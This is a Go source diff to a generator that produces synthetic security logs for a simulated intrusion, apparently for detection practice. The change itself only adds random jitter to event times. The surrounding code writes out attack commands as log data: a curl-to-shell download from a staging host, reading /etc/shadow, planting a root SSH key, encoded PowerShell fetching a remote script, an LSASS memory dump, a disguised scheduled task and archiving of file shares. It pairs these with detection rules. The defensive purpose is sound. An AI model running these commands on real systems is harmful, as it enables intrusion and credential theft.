@@ -40,18 +40,18 @@ func (p *play) intrusion() {
 		at = at.Add(d.part(50*time.Second, 75*time.Second))
 	}
 	p.step(start, Step{Title: "Password spray at the identity provider", Host: "idp", Source: "idp", Dataset: "signin", Technique: "T1110.003", Rule: `(?i)legacy|spray|basic auth`})
-	at = start.Add(41 * time.Minute)
+	at = soon(d, start.Add(41*time.Minute))
 	p.signIn(&signin{at: at, w: v, ip: attacker, land: "NL", ok: true, client: "Authenticated SMTP", app: "Mail", agent: "BAV2ROPC", session: d.uuid()})
 	p.step(at, Step{Title: "Sign-in from a new country without a second factor", Host: "idp", Source: "idp", Dataset: "signin", Technique: "T1078.004", Rule: `(?i)legacy|without (a )?(mfa|second)|no mfa|single.factor`})
 
 	// 3, 4: the jump host takes the same password; sudo gives a shell.
-	at = start.Add(58 * time.Minute)
+	at = soon(d, start.Add(58*time.Minute))
 	s := &shell{h: p.jump, user: v.account, uid: v.uid, from: attacker, port: 50112, pid: 24188, session: 4977, tty: 3}
 	p.login(d, s, at, "password", 3*time.Hour+6*time.Minute)
 	in := &flow{at: at.Add(-2 * time.Second), length: 3*time.Hour + 6*time.Minute, src: attacker, dst: "192.0.2.20", sport: s.port, dport: 22, app: "SSH", service: "ssh", sent: 611_204, got: 1_940_117, state: "SF", history: "ShAdDaFf", uid: "C" + d.word(17), local: true}
 	p.passed(in, 31, "wan", "dmz")
 	p.step(at, Step{Title: "Login to the jump host by password from a public address", Host: "jump01", Source: "linux", Dataset: "linux-sshd", Technique: "T1021.004", Rule: `(?i)ssh|password`})
-	at = start.Add(63 * time.Minute)
+	at = soon(d, start.Add(63*time.Minute))
 	p.sudo(s, at, 24301, "/home/"+v.account, "/bin/bash")
 	p.step(at, Step{Title: "Root shell by sudo", Host: "jump01", Source: "linux", Dataset: "linux-sudo", Technique: "T1548.003", Rule: `(?i)sudo|root shell`})
 
@@ -60,7 +60,7 @@ func (p *play) intrusion() {
 	p.exec(d, p.jump, at.Add(2*time.Second), root, 24301, 24302, "/usr/bin/bash", "/home/"+v.account, "exec", "/bin/bash")
 	p.exec(d, p.jump, at.Add(40*time.Second), root, 24302, 24310, "/usr/bin/id", "/home/"+v.account, "exec", "id")
 	p.exec(d, p.jump, at.Add(55*time.Second), root, 24302, 24311, "/usr/bin/uname", "/home/"+v.account, "exec", "uname", "-a")
-	at = start.Add(67 * time.Minute)
+	at = soon(d, start.Add(67*time.Minute))
 	url := "http://" + staging + "/u.sh"
 	p.exec(d, p.jump, at, root, 24302, 24340, "/usr/bin/dash", "/root", "exec", "sh", "-c", "curl -fsSL "+url+" | sh")
 	p.exec(d, p.jump, at.Add(8*time.Millisecond), root, 24340, 24341, "/usr/bin/curl", "/root", "exec", "curl", "-fsSL", url)
@@ -71,11 +71,11 @@ func (p *play) intrusion() {
 	p.conn(&flow{at: at.Add(9 * time.Millisecond), length: 612 * time.Millisecond, src: p.jump.ip, dst: staging, sport: 41870, dport: 80, service: "http", sent: 84, got: 2_914, state: "SF", history: "ShADadFf", uid: "C" + d.word(17)})
 	p.passed(&flow{at: at, length: time.Second, src: p.jump.ip, dst: staging, sport: 41870, dport: 80, app: "HTTP", sent: 84, got: 2_914}, 33, "dmz", "wan")
 	p.step(at, Step{Title: "A script from the Internet piped to a shell", Host: "jump01", Source: "linux-audit", Dataset: "linux-auditd", Technique: "T1059.004", Rule: `(?i)curl|download|pipe|/tmp`})
-	at = start.Add(72 * time.Minute)
+	at = soon(d, start.Add(72*time.Minute))
 	p.exec(d, p.jump, at, root, 24302, 24388, "/usr/bin/cat", "/root", "exec", "cat", "/etc/shadow")
 	p.open(d, p.jump, at.Add(3*time.Millisecond), root, 24302, 24388, "/usr/bin/cat", "/root", "/etc/shadow", "0100640", "NORMAL", "shadow", "cat", "/etc/shadow")
 	p.step(at, Step{Title: "The password file read", Host: "jump01", Source: "linux-audit", Dataset: "linux-auditd", Technique: "T1003.008", Rule: `(?i)shadow|password file|credential`})
-	at = start.Add(76 * time.Minute)
+	at = soon(d, start.Add(76*time.Minute))
 	p.exec(d, p.jump, at, root, 24302, 24402, "/usr/bin/dash", "/root", "exec", "sh", "-c", "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"+d.word(43)+" >> /root/.ssh/authorized_keys")
 	p.open(d, p.jump, at.Add(2*time.Millisecond), root, 24402, 24402, "/usr/bin/dash", "/root", "/root/.ssh/authorized_keys", "0100600", "NORMAL", "ssh_keys", "sh", "-c", "echo")
 	p.step(at, Step{Title: "A key of the intruder's own for root", Host: "jump01", Source: "linux-audit", Dataset: "linux-auditd", Technique: "T1098.004", Rule: `(?i)authorized.?keys|ssh key`})
@@ -87,7 +87,7 @@ func (p *play) intrusion() {
 // broken.
 func (p *play) windowsPart(d *draws, v *person) {
 	services := [...][2]string{{"svc-deploy", "1520"}, {"svc-sql", "1521"}, {"svc-backup", "1522"}, {"svc-scan", "1523"}, {"svc-print", "1524"}}
-	at := p.to.Add(-11 * time.Hour)
+	at := soon(d, p.to.Add(-11*time.Hour))
 	for i, s := range services {
 		p.conn(&flow{at: at.Add(time.Duration(i) * 170 * time.Millisecond), length: 3 * time.Millisecond, src: p.jump.ip, dst: p.ad.ip, sport: 43120 + i*2, dport: 88, service: "krb_tcp", sent: 1_702, got: 1_655, state: "SF", history: "ShADadFf", local: true, uid: "C" + d.word(17)})
 		p.serviceTicket(at.Add(time.Duration(i)*170*time.Millisecond), v.user(), s[0], domainSID+"-"+s[1], "0x17", "0x40810010", p.jump.ip, 43120+i*2, d.guid())
@@ -95,7 +95,7 @@ func (p *play) windowsPart(d *draws, v *person) {
 	p.step(at, Step{Title: "Service tickets with a weak cipher for five service accounts", Host: "DC01", Source: "dc", Dataset: "win-security", Technique: "T1558.003", Rule: `(?i)kerberoast|rc4|weak`})
 
 	deploy := account{"svc-deploy", domain, domainSID + "-1520"}
-	at = p.to.Add(-10*time.Hour - 20*time.Minute)
+	at = soon(d, p.to.Add(-10*time.Hour-20*time.Minute))
 	l := &logon{who: deploy, id: 0x7b91e04, kind: 3, pkg: "NTLM", station: "JUMP01", ip: p.jump.ip, port: 51844, guid: noGUID, elevated: true}
 	p.logonOn(p.wsIT, at, l)
 	p.share(p.wsIT, at.Add(90*time.Millisecond), l, "IPC$", "", "0x1")
@@ -128,7 +128,7 @@ func (p *play) windowsPart(d *draws, v *person) {
 	whoami := ms(`C:\Windows\System32\whoami.exe`, cmdImage, `cmd.exe /c whoami /all`, "whoami.exe", "whoami - displays logged on user information")
 	p.start(d, p.wsIT, at.Add(8100*time.Millisecond), whoami, `whoami  /all`, boot)
 
-	at = p.to.Add(-10*time.Hour - 16*time.Minute)
+	at = soon(d, p.to.Add(-10*time.Hour-16*time.Minute))
 	text := "$c=New-Object Net.WebClient;IEX $c.DownloadString('http://" + staging + "/l.ps1')"
 	ps := p.start(d, p.wsIT, at, ms(shellImage, cmdImage, `cmd.exe /Q /c powershell`, "PowerShell.EXE", "Windows PowerShell"), "powershell.exe -nop -w hidden -enc "+utf16Base64(text), boot)
 	p.script(p.wsIT, at.Add(400*time.Millisecond), text, d.uuid(), "")
@@ -137,14 +137,14 @@ func (p *play) windowsPart(d *draws, v *person) {
 	p.passed(&flow{at: at.Add(900 * time.Millisecond), length: 1400 * time.Millisecond, src: p.wsIT.ip, dst: staging, sport: 50877, dport: 80, app: "HTTP", sent: 71, got: 48_190}, 12, "lan", "wan")
 	p.step(at, Step{Title: "Encoded PowerShell fetches the next stage", Host: "WS-IT-03", Source: "workstations", Dataset: "win-sysmon", Technique: "T1059.001", Rule: `(?i)powershell`})
 
-	at = p.to.Add(-10*time.Hour - 2*time.Minute)
+	at = soon(d, p.to.Add(-10*time.Hour-2*time.Minute))
 	dump := p.start(d, p.wsIT, at, ms(`C:\Windows\System32\rundll32.exe`, shellImage, "powershell.exe -nop -w hidden", "RUNDLL32.EXE", "Windows host process (Rundll32)"),
 		`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 744 C:\Windows\Temp\d.dmp full`, boot)
 	p.access(p.wsIT, at.Add(200*time.Millisecond), dump, `C:\Windows\system32\lsass.exe`, "0x1fffff", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+2d3a1|C:\Windows\System32\rundll32.exe+3b6e`)
 	p.create(p.wsIT, at.Add(500*time.Millisecond), dump, `C:\Windows\Temp\d.dmp`)
 	p.step(at, Step{Title: "Memory of the credential store read", Host: "WS-IT-03", Source: "workstations", Dataset: "win-sysmon", Technique: "T1003.001", Rule: `(?i)lsass|comsvcs|minidump`})
 
-	at = p.to.Add(-9*time.Hour - 50*time.Minute)
+	at = soon(d, p.to.Add(-9*time.Hour-50*time.Minute))
 	tasks := ms(`C:\Windows\System32\schtasks.exe`, shellImage, "powershell.exe -nop -w hidden", "schtasks.exe", "Task Scheduler Configuration Tool")
 	command := `schtasks /create /tn "\Microsoft\Windows\UpdateOrchestrator\Health Scan" /tr "C:\ProgramData\sync\svcsync.exe" /sc minute /mo 20 /ru SYSTEM /f`
 	p.start(d, p.wsIT, at, tasks, command, boot)
@@ -165,7 +165,7 @@ func (p *play) windowsPart(d *draws, v *person) {
 
 	// The dump held an administrator of the domain.
 	admin := p.people[3]
-	at = p.to.Add(-8*time.Hour - 45*time.Minute)
+	at = soon(d, p.to.Add(-8*time.Hour-45*time.Minute))
 	da := &logon{who: admin.user(), id: 0x9d02f7a, kind: 3, pkg: "NTLM", station: "WS-IT-03", ip: p.wsIT.ip, port: 51902, guid: noGUID, elevated: true}
 	p.logonOn(p.ad, at, da)
 	added := account{"svc-healthmon", domain, domainSID + "-1688"}
@@ -191,7 +191,7 @@ func (p *play) windowsPart(d *draws, v *person) {
 	p.step(at.Add(5*time.Second), Step{Title: "A new account among the domain administrators", Host: "DC01", Source: "dc", Dataset: "win-security", Technique: "T1098", Rule: `(?i)group|admin`})
 
 	// The file server.
-	at = p.to.Add(-7 * time.Hour)
+	at = soon(d, p.to.Add(-7*time.Hour))
 	p.explicit(p.wsIT, at.Add(-time.Second), &logon{who: account{"WS-IT-03$", domain, "S-1-5-18"}, id: 0x3e7}, added, "FS01."+dnsDomain, shellImage)
 	fl := &logon{who: added, id: 0x5c0a911, kind: 3, pkg: "NTLM", station: "WS-IT-03", ip: p.wsIT.ip, port: 52010, guid: noGUID, elevated: true}
 	p.logonOn(p.fs, at, fl)
@@ -204,7 +204,7 @@ func (p *play) windowsPart(d *draws, v *person) {
 	p.conn(&flow{at: at.Add(-20 * time.Millisecond), length: 7 * time.Minute, src: p.wsIT.ip, dst: p.fs.ip, sport: fl.port, dport: 445, service: "gssapi,ntlm,smb,dce_rpc", sent: 1_204_551, got: 88_930, state: "SF", history: "ShADadFf", local: true, uid: "C" + d.word(17)})
 	p.step(at.Add(time.Second), Step{Title: "Remote service on the file server with the new account", Host: "FS01", Source: "fileserver", Dataset: "win-system", Technique: "T1021.002", Rule: `(?i)psexec|service`})
 
-	at = p.to.Add(-6*time.Hour - 20*time.Minute)
+	at = soon(d, p.to.Add(-6*time.Hour-20*time.Minute))
 	rar := tool(`C:\PerfLogs\rar.exe`, psexec.image, psexec.image, "Rar.exe")
 	rar.company, rar.product, rar.description, rar.version = "Alexander Roshal", "WinRAR", "Command line RAR", "7.1.0"
 	work := p.start(d, p.fs, at, rar, `C:\PerfLogs\rar.exe a -r -v500m -hpQ7vT2xNe -m1 C:\PerfLogs\p.rar D:\Shares\Finance D:\Shares\HR-Forms`, boot)
@@ -271,6 +271,11 @@ func (p *play) bystanders() {
 	p.logonOn(p.fs, at.Add(3*time.Minute+time.Second), l)
 	p.share(p.fs, at.Add(3*time.Minute+2*time.Second), l, "Projects", `\??\D:\Shares\Projects`, "0x1")
 	p.logoff(p.fs, at.Add(9*time.Minute), l)
+}
+
+// soon is within a minute: people do not act on the full second.
+func soon(d *draws, at time.Time) time.Time {
+	return at.Add(d.part(0, 50*time.Second)).Truncate(time.Microsecond)
 }
 
 // utf16Base64 is how PowerShell wants an encoded command.
